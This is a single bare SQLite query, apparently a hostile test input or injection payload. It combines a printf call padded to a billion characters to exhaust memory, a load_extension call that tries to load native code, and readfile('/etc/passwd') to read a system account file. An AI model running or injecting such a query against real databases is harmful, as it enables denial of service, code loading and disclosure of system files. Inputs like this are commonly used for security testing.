select printf('%.*c', 1000000000, 'x'), load_extension('x'), readfile('/etc/passwd')
